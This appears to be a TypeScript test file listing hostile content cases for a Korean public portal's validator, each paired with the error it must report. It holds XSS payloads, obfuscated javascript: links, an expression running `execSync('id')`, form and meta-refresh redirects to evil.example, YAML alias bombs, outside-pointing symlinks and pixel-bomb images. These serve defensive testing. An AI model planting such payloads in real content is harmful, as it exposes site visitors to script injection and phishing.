/**
 * Kinds of bad or hostile content, each applied to a copy of the base folder (base.ts), with
 * the problem `validate` and the build must report: the file, the place (line, and column where
 * the reader can give one), the field and words of the reason. Every message also carries a fix.
 */
import { appendFileSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { loadContent } from '../../src/content-io/load-content.ts';
import { loadPermanenceFiles, nextRecord, writeRecord } from '../../src/content-io/permanence.ts';
import { parseAsOf } from '../../src/foundation/as-of.ts';
import { animatedWebp, AS_OF, bodyLine, DRAFT_ID, pixelBombPng, PUBLIC_ID, releasePath, SCHEDULED_ID, SCHEDULED_MARKER, truncatedJpeg, writeRelease, type ReleaseParts } from './base.ts';

export interface Expected {
  /** The end of the file's path as the message shows it. */
  file: string;
  /** The line the message points at; `true`: some line. */
  line?: number | true;
  field: string | RegExp;
  /** Words of the Korean reason. */
  ko: RegExp;
}

export interface HostileCase {
  name: string;
  kind: 'body' | 'frontmatter' | 'data file' | 'attachment' | 'folder' | 'policy page';
  apply: (dir: string) => void | Promise<void>;
  expect: Expected;
}

const PUBLIC_FILE = `releases/2026/${PUBLIC_ID}.mdx`;

/**
 * A private file beside the content folder, for a link to point out of it. Not a system file such
 * as /etc/passwd: anything that later writes to the link (another case, a careless test) would
 * write through it.
 */
function outsideFile(dir: string, name: string): string {
  const file = path.join(dir, '..', `outside-${name}`);
  writeFileSync(file, `secret ${name}\n`);
  return file;
}

/** A case whose hostile text is the public release's body (one line). */
function body(name: string, text: string, ko: RegExp): HostileCase {
  return {
    name,
    kind: 'body',
    apply: (dir) => writeRelease(dir, PUBLIC_ID, { body: `첫 줄은 평범합니다.\n\n${text}` }),
    expect: { file: PUBLIC_FILE, line: bodyLine() + 2, field: '(본문)', ko },
  };
}

/** A case whose hostile part is in the public release's frontmatter. */
function frontmatter(name: string, parts: ReleaseParts, field: string | RegExp, ko: RegExp, line: number | true = true): HostileCase {
  return { name, kind: 'frontmatter', apply: (dir) => writeRelease(dir, PUBLIC_ID, parts), expect: { file: PUBLIC_FILE, line, field, ko } };
}

function replaceIn(dir: string, relative: string, from: string | RegExp, to: string | ((match: string) => string)): void {
  const file = path.join(dir, relative);
  const text = readFileSync(file, 'utf8');
  const next = typeof to === 'string' ? text.replace(from, to) : text.replace(from, to);
  if (next === text) throw new Error(`case setup: ${String(from)} not found in ${relative}`);
  writeFileSync(file, next);
}

const LONG_ID = `org-${'x'.repeat(281)}`;

export const CASES: HostileCase[] = [
  // ── release bodies: code ──
  body('expression reading the environment', '{process.env.HOME}', /\{ \} 식은 쓸 수 없습니다/),
  body('expression running a command', '{process.getBuiltinModule("node:child_process").execSync("id")}', /\{ \} 식은 쓸 수 없습니다/),
  body('expression with an endless loop', '{(() => { while (true) {} })()}', /\{ \} 식은 쓸 수 없습니다/),
  body('inline expression in a sentence', '합계는 {1+1}입니다.', /\{ \} 식은 쓸 수 없습니다/),
  body('JSX inside an expression', '{<script>alert(1)</script>}', /\{ \} 식은 쓸 수 없습니다/),
  body('comment hiding code', '{/* a */ process.exit(1) /* b */}', /\{ \} 식은 쓸 수 없습니다/),
  body('import statement', 'import fs from "node:fs"', /import\/export 문은 쓸 수 없습니다/),
  body('export statement', 'export const leak = process.env', /import\/export 문은 쓸 수 없습니다/),
  body('expression as an attribute value', '<a href={"javascript:alert(1)"}>링크</a>', /href 값에 \{ \} 식은 쓸 수 없습니다/),
  body('spread attributes', "<b {...{onerror: 'alert(1)'}}>굵게</b>", /펼침 속성은 쓸 수 없습니다/),
  body('set:html directive', '<span set:html="<meta http-equiv=refresh content=0;url=https://evil.example>">x</span>', /지시 속성/),
  body('is:raw directive', '<code is:raw>x</code>', /지시 속성/),
  body('client directive on a component', '<Stat client:load kpi="budget.executed" at="2026-01" value="1억 원" />', /지시 속성/),
  body('unknown component', '<Foo />', /포털에 없는 구성 요소입니다/),
  body('member-expression component', '<Foo.Bar />', /포털에 없는 구성 요소입니다/),
  body('component prop as an expression', '<Stat kpi={"budget.executed"} at="2026-01" value="1억 원" />', /<Stat>의 kpi 값이 없거나/),
  body('fragment', '<>조각</>', /빈 태그/),
  // ── release bodies: markup ──
  body('script element', '<script>alert(1)</script>', /<script> 태그는 쓸 수 없습니다/),
  body('iframe element', '<iframe src="https://evil.example/"></iframe>', /<iframe> 태그는 쓸 수 없습니다/),
  body('frameset element', '<frameset></frameset>', /<frameset> 태그는 쓸 수 없습니다/),
  body('meta refresh element', '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />', /<meta> 태그는 쓸 수 없습니다/),
  body('button with formaction', '<button formaction="https://evil.example/">보내기</button>', /<button> 태그는 쓸 수 없습니다/),
  body('formaction on an allowed element', '<b formaction="https://evil.example/">굵게</b>', /formaction 속성은 쓸 수 없습니다/),
  body('event handler attribute', '<img src="/kpi/" alt="x" onerror="alert(1)" />', /onerror 속성은 쓸 수 없습니다/),
  body('style attribute', '<span style="position:fixed;inset:0">덮기</span>', /style 속성은 쓸 수 없습니다/),
  body('class attribute', '<span class="skip-link">x</span>', /class 속성은 쓸 수 없습니다/),
  body('svg with a script', '<svg><script>alert(1)</script></svg>', /<svg> 태그는 쓸 수 없습니다/),
  body('upper-case element name', '<SCRIPT>alert(1)</SCRIPT>', /포털에 없는 구성 요소입니다/),
  body('unclosed tag', '<b>닫지 않은 굵게', /MDX 문법 오류/),
  // ── release bodies: URLs ──
  body('javascript: in a Markdown link', '[누르기](javascript:alert(1))', /형식\(javascript:\)은 쓸 수 없습니다/),
  body('javascript: in mixed case', '[누르기](JaVaScRiPt:alert(1))', /형식\(javascript:\)은 쓸 수 없습니다/),
  body('javascript: hidden by a character reference', '[누르기](&#106;avascript:alert(1))', /형식\(javascript:\)은 쓸 수 없습니다/),
  body('javascript: in a link reference definition', '[누르기][x]\n\n[x]: javascript:alert(1)', /형식\(javascript:\)은 쓸 수 없습니다/),
  body('data: image', '![그림](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)', /형식\(data:\)은 쓸 수 없습니다/),
  body('vbscript: in a JSX link', '<a href="vbscript:msgbox(1)">x</a>', /형식\(vbscript:\)은 쓸 수 없습니다/),
  body('data: in a quote citation', '<q cite="data:text/html,x">인용</q>', /형식\(data:\)은 쓸 수 없습니다/),
  body('protocol-relative link', '[다른 곳](//evil.example/)', /다른 사이트로 갈 수 있습니다/),
  body('backslash link', '<a href="/\\evil.example/">x</a>', /다른 사이트로 갈 수 있습니다/),
  body('unparseable host', '[깨진 주소](http://[::1/)', /읽을 수 없습니다/),
  body('malformed percent escape', '[깨진 주소](/releases/%E0%A4%A/)', /읽을 수 없습니다/),
  body('percent escape that is not UTF-8', '[깨진 주소](/tags/%C3%28/)', /읽을 수 없습니다/),
  body('site link leading nowhere', '[없는 곳](/nothing-here/)', /가리키는 페이지가 없습니다/),
  body('link to a scheduled release', `[예약](/releases/${SCHEDULED_ID}/)`, /늦게 공개되거나 초안입니다/),
  body('link to a draft', `<a href="/releases/${DRAFT_ID}/">초안</a>`, /늦게 공개되거나 초안입니다/),
  body('relative link to a scheduled release', `[예약](../${SCHEDULED_ID}/)`, /늦게 공개되거나 초안입니다/),
  body('dot segments to a scheduled release', `[예약](/data/../releases/${SCHEDULED_ID}/)`, /늦게 공개되거나 초안입니다/),
  body("the site's own absolute URL of a scheduled release", `[예약](http://localhost:4321/releases/${SCHEDULED_ID}/)`, /늦게 공개되거나 초안입니다/),
  body("a scheduled release's tag page", `[태그](/tags/예약${SCHEDULED_MARKER}/)`, /늦게 공개되거나 초안입니다/),
  body("a scheduled release's attachment", `[첨부](/attachments/${SCHEDULED_ID}/scheduled.pdf)`, /늦게 공개되거나 초안입니다/),
  body('an attachment no release lists', `[첨부](/attachments/${PUBLIC_ID}/nothing.pdf)`, /가리키는 페이지가 없습니다/),
  body('a data file that is not published', '[자료](/data/secret.csv)', /가리키는 페이지가 없습니다/),
  body('a user name hiding the real host', '[제주도청](https://www.jeju.go.kr@evil.example/)', /사용자 이름/),
  body('quotes nested 2000 deep', `${'> '.repeat(2000)}x`, /단계보다 깊게 겹쳐 있습니다/),
  body('an element named after an object property', '<constructor title="x">T</constructor>', /<constructor> 태그는 쓸 수 없습니다/),
  body('an attribute named after an object property', '<a href="/kpi/" constructor="x">a</a>', /constructor 속성은 쓸 수 없습니다/),
  body('a right-to-left override in the body text', '가격은 \u202E원 000,1', /보이지 않는 글자\(U\+202E\)/),
  // ── policy pages ──
  {
    name: 'meta refresh and a form in a policy page',
    kind: 'policy page',
    apply: (dir) => appendFileSync(path.join(dir, 'pages', 'privacy.md'), '\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n<form action="https://evil.example/"><input name="rrn"></form>\n'),
    expect: { file: 'pages/privacy.md', line: true, field: '(본문)', ko: /HTML 태그를 쓸 수 없습니다/ },
  },
  {
    name: 'a policy page image from outside the content folder',
    kind: 'policy page',
    apply: (dir) => appendFileSync(path.join(dir, 'pages', 'privacy.md'), '\n![밖](../../outside-secret.png)\n'),
    expect: { file: 'pages/privacy.md', line: true, field: '(본문)', ko: /가리키는 페이지가 없습니다/ },
  },
  {
    name: 'a policy page linking to a scheduled release',
    kind: 'policy page',
    apply: (dir) => appendFileSync(path.join(dir, 'pages', 'privacy.md'), `\n[예약](/releases/${SCHEDULED_ID}/)\n`),
    expect: { file: 'pages/privacy.md', line: true, field: '(본문)', ko: /늦게 공개되거나 초안입니다/ },
  },
  {
    name: 'a policy page without its summary',
    kind: 'policy page',
    apply: (dir) => replaceIn(dir, 'pages/privacy.md', /\nsummary: .*\n/, '\n'),
    expect: { file: 'pages/privacy.md', field: 'summary', ko: /필수 항목이 없습니다/ },
  },
  {
    name: 'a policy page no footer links to',
    kind: 'policy page',
    apply: (dir) => writeFileSync(path.join(dir, 'pages', 'secret.md'), '---\ntitle: 비밀\nsummary: 비밀입니다.\nupdated: 2026-01-01\n---\n\n비밀\n'),
    expect: { file: 'pages/secret.md', field: '(파일)', ko: /알 수 없는 정책 페이지입니다/ },
  },
  // ── frontmatter ──
  frontmatter('tag with a line break', { tags: '["매칭\\n데이"]' }, 'tags.0', /주소에 쓸 수 없는 문자/, 6),
  frontmatter('tag named like a file of the site', { tags: '[index.html]' }, 'tags.0', /주소에 쓸 수 없는 문자/, 6),
  frontmatter('a correction dated after the as-of time', { extra: ['corrections:', '  - date: 2026-12-01T10:00:00+09:00', '    note: 미리 적은 정정입니다.'] }, 'corrections.0.date', /아직 오지 않았습니다/, 13),
  frontmatter('right-to-left override in the title', { title: '"보도자료\u202Efdp.exe"' }, 'title', /보이지 않는 글자\(U\+202E\)/, 2),
  frontmatter('zero-width space in the summary', { summary: '"요약\u200B입니다"' }, 'summary', /보이지 않는 글자\(U\+200B\)/, 3),
  frontmatter('NUL character in a tag', { tags: '["매칭\\0데이"]' }, 'tags.0', /보이지 않는 글자\(U\+0000\)/, 6),
  frontmatter('tag of 100 Hangul syllables', { tags: `[${'가'.repeat(100)}]` }, 'tags.0', /태그가 너무 깁니다/, 6),
  frontmatter('285-character organisation id', { organizations: `[${LONG_ID}]` }, 'organizations.0', /id가 너무 깁니다/, 7),
  frontmatter('!!js/function tag', { title: '!!js/function "function () { return process.env }"' }, '(문법)', /YAML 태그/, 2),
  frontmatter('!!binary tag', { summary: '!!binary aGVsbG8=' }, '(문법)', /YAML 태그/, 3),
  frontmatter('alias bomb', { extra: ['x: &a [1, 1, 1, 1, 1, 1, 1, 1, 1]', 'y: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]', 'z: [*b, *b, *b, *b, *b, *b, *b, *b, *b]'] }, '(문법)', /YAML 별칭/, 12),
  // ── data files ──
  {
    name: 'javascript: source URL in programme.yaml',
    kind: 'data file',
    apply: (dir) => replaceIn(dir, 'programme.yaml', '    section: 경제 섹션', '    section: 경제 섹션\n    url: javascript:alert(document.cookie)'),
    expect: { file: 'programme.yaml', line: true, field: 'sources.bizdaily-2025-12-20.url', ko: /웹 주소\(http 또는 https\)가 아닙니다/ },
  },
  {
    name: 'data: licence URL in programme.yaml',
    kind: 'data file',
    apply: (dir) => replaceIn(dir, 'programme.yaml', /licence:\n {2}name: .*\n/, (m) => `${m}  url: data:text/html,<script>alert(1)</script>\n`),
    expect: { file: 'programme.yaml', line: true, field: 'licence.url', ko: /웹 주소/ },
  },
  {
    name: 'bidi override in an organisation name',
    kind: 'data file',
    apply: (dir) => replaceIn(dir, 'organizations.yaml', 'name: 제주테크노파크', 'name: "제주\u202E크파노크테"'),
    expect: { file: 'organizations.yaml', line: true, field: '0.name', ko: /보이지 않는 글자\(U\+202E\)/ },
  },
  {
    name: '285-character id in organizations.yaml',
    kind: 'data file',
    apply: (dir) => appendFileSync(path.join(dir, 'organizations.yaml'), `\n- id: ${LONG_ID}\n  name: 긴 기관\n  roles: [support]\n  sector: public\n  firstMentioned: 2025-12-17\n  source: bizdaily-2025-12-20\n`),
    expect: { file: 'organizations.yaml', line: true, field: /^\d+\.id$/, ko: /id가 너무 깁니다/ },
  },
  {
    name: 'alias bomb in organizations.yaml',
    kind: 'data file',
    apply: (dir) => appendFileSync(path.join(dir, 'organizations.yaml'), '\n- id: bomb\n  name: &n [a, a, a, a, a, a, a, a]\n  note: [*n, *n, *n, *n, *n, *n, *n, *n]\n'),
    expect: { file: 'organizations.yaml', line: true, field: '(문법)', ko: /YAML 별칭/ },
  },
  {
    name: 'pair naming a draft release',
    kind: 'data file',
    apply: (dir) => writeFileSync(path.join(dir, 'matches.yaml'), matchesYaml(DRAFT_ID)),
    expect: { file: 'matches.yaml', line: true, field: '0.release', ko: /아직 공개되지 않았습니다/ },
  },
  {
    name: 'pair naming a scheduled release',
    kind: 'data file',
    apply: (dir) => writeFileSync(path.join(dir, 'matches.yaml'), matchesYaml(SCHEDULED_ID)),
    expect: { file: 'matches.yaml', line: true, field: '0.release', ko: /아직 공개되지 않았습니다/ },
  },
  {
    name: 'redirect to a scheduled release',
    kind: 'data file',
    apply: (dir) => {
      const asOf = parseAsOf(AS_OF);
      writeRecord(dir, nextRecord([], loadContent(dir, asOf).releases, loadPermanenceFiles(dir, []), asOf));
      rmSync(releasePath(dir, PUBLIC_ID));
      writeFileSync(path.join(dir, 'redirects.yaml'), `- from: ${PUBLIC_ID}\n  to: ${SCHEDULED_ID}\n  date: 2026-05-01\n  reason: 옮겼습니다.\n`);
    },
    expect: { file: 'redirects.yaml', line: 2, field: '0.to', ko: /아직 공개되지 않았습니다/ },
  },
  {
    name: '!!js/function in search-synonyms.yaml',
    kind: 'data file',
    apply: (dir) => writeFileSync(path.join(dir, 'search-synonyms.yaml'), 'groups:\n  - [MS, !!js/function "function(){}"]\n'),
    expect: { file: 'search-synonyms.yaml', line: 2, field: '(문법)', ko: /YAML 태그/ },
  },
  {
    name: 'hidden character in a press contact',
    kind: 'data file',
    apply: (dir) => writeFileSync(path.join(dir, 'press.yaml'), 'updated: 2026-01-05\ncontacts:\n  - organization: jeju-technopark\n    name: "제주테크노파크\u200D"\n'),
    expect: { file: 'press.yaml', line: 4, field: 'contacts.0.name', ko: /보이지 않는 글자/ },
  },
  // ── attachments and the folder ──
  {
    name: 'attachment that is a symlink to a file outside the folder',
    kind: 'attachment',
    apply: (dir) => {
      rmSync(path.join(dir, 'attachments', PUBLIC_ID, 'photo.png'));
      symlinkSync(outsideFile(dir, 'passwd'), path.join(dir, 'attachments', PUBLIC_ID, 'photo.png'));
    },
    expect: { file: `attachments/${PUBLIC_ID}/photo.png`, field: '(파일)', ko: /심볼릭 링크/ },
  },
  {
    name: 'attachments folder that is a symlink',
    kind: 'attachment',
    apply: (dir) => {
      rmSync(path.join(dir, 'attachments', PUBLIC_ID), { recursive: true });
      mkdirSync(path.join(dir, '..', 'outside-attachments'), { recursive: true });
      writeFileSync(path.join(dir, '..', 'outside-attachments', 'photo.png'), 'secret');
      symlinkSync(path.join(dir, '..', 'outside-attachments'), path.join(dir, 'attachments', PUBLIC_ID));
    },
    expect: { file: `attachments/${PUBLIC_ID}`, field: '(파일)', ko: /심볼릭 링크/ },
  },
  {
    name: 'release file that is a symlink',
    kind: 'folder',
    apply: (dir) => symlinkSync(outsideFile(dir, 'hostname'), path.join(dir, 'releases', '2026', '2026-03-09-linked.mdx')),
    expect: { file: 'releases/2026/2026-03-09-linked.mdx', field: '(파일)', ko: /심볼릭 링크/ },
  },
  {
    name: 'named pipe in the content folder',
    kind: 'folder',
    apply: (dir) => execFileSync('mkfifo', [path.join(dir, 'pipe.yaml')]),
    expect: { file: 'pipe.yaml', field: '(파일)', ko: /일반 파일이 아닌 것/ },
  },
  {
    name: 'corrupt JPEG with a valid header',
    kind: 'attachment',
    apply: async (dir) => {
      writeFileSync(path.join(dir, 'attachments', PUBLIC_ID, 'photo.jpg'), await truncatedJpeg());
      replaceIn(dir, `releases/2026/${PUBLIC_ID}.mdx`, 'file: photo.png', 'file: photo.jpg');
    },
    expect: { file: PUBLIC_FILE, line: 13, field: 'attachments.0.file', ko: /읽을 수 없습니다/ },
  },
  {
    name: '20000×20000-pixel PNG of a few hundred bytes',
    kind: 'attachment',
    apply: (dir) => writeFileSync(path.join(dir, 'attachments', PUBLIC_ID, 'photo.png'), pixelBombPng(20000, 20000)),
    expect: { file: PUBLIC_FILE, line: 13, field: 'attachments.0.file', ko: /너무 큽니다 \(20000×20000/ },
  },
  {
    name: 'animated WebP of 20 frames',
    kind: 'attachment',
    apply: async (dir) => {
      writeFileSync(path.join(dir, 'attachments', PUBLIC_ID, 'photo.webp'), await animatedWebp(400, 400, 20));
      replaceIn(dir, `releases/2026/${PUBLIC_ID}.mdx`, 'file: photo.png', 'file: photo.webp');
    },
    expect: { file: PUBLIC_FILE, line: 13, field: 'attachments.0.file', ko: /여러 장\(움직이는 그림, 20장\)/ },
  },
  {
    name: 'right-to-left override in a budget note',
    kind: 'data file',
    apply: (dir) => writeFileSync(path.join(dir, 'budget.csv'), 'month,source,planned,executed,note\n2026-01,national,100,90,"비고\u202E고비"\n'),
    expect: { file: 'budget.csv', line: 2, field: 'note', ko: /보이지 않는 글자/ },
  },
  {
    name: 'a folder where programme.yaml should be',
    kind: 'folder',
    apply: (dir) => {
      rmSync(path.join(dir, 'programme.yaml'));
      mkdirSync(path.join(dir, 'programme.yaml'));
    },
    expect: { file: 'programme.yaml', field: '(파일)', ko: /폴더가 있습니다/ },
  },
  {
    name: 'a release file of 2 MB',
    kind: 'folder',
    apply: (dir) => writeRelease(dir, '2026-03-12-huge', { body: '아주 긴 글입니다. '.repeat(80_000) }),
    expect: { file: 'releases/2026/2026-03-12-huge.mdx', field: '(파일)', ko: /파일이 너무 큽니다/ },
  },
  {
    name: 'a source URL of this site naming a scheduled release',
    kind: 'data file',
    apply: (dir) => replaceIn(dir, 'programme.yaml', '    section: 경제 섹션', `    section: 경제 섹션\n    url: http://localhost:4321/releases/${SCHEDULED_ID}/`),
    expect: { file: 'programme.yaml', line: true, field: 'sources.bizdaily-2025-12-20.url', ko: /늦게 공개되거나 초안입니다/ },
  },
  {
    name: 'release file name in decomposed (NFD) Hangul',
    kind: 'folder',
    apply: (dir) => writeFileSync(path.join(dir, 'releases', '2026', '2026-03-10-한글.mdx'.normalize('NFD')), 'x'),
    expect: { file: 'releases/2026/2026-03-10-한글.mdx', field: '(파일)', ko: /위치나 이름이 규칙에 맞지 않습니다/ },
  },
  {
    name: 'release slug of 200 characters',
    kind: 'folder',
    apply: (dir) => writeFileSync(path.join(dir, 'releases', '2026', `2026-03-11-${'a'.repeat(200)}.mdx`), 'x'),
    expect: { file: `releases/2026/2026-03-11-${'a'.repeat(200)}.mdx`, field: '(파일)', ko: /위치나 이름이 규칙에 맞지 않습니다/ },
  },
];

function matchesYaml(release: string): string {
  return [
    '- id: pair-1',
    `  release: ${release}`,
    '  demand: uni-jeju',
    '  supply: estsoft',
    '  stages:',
    '    - stage: consultation',
    '      date: 2026-01-10',
    '  source: bizdaily-2025-12-20',
    '',
  ].join('\n');
}
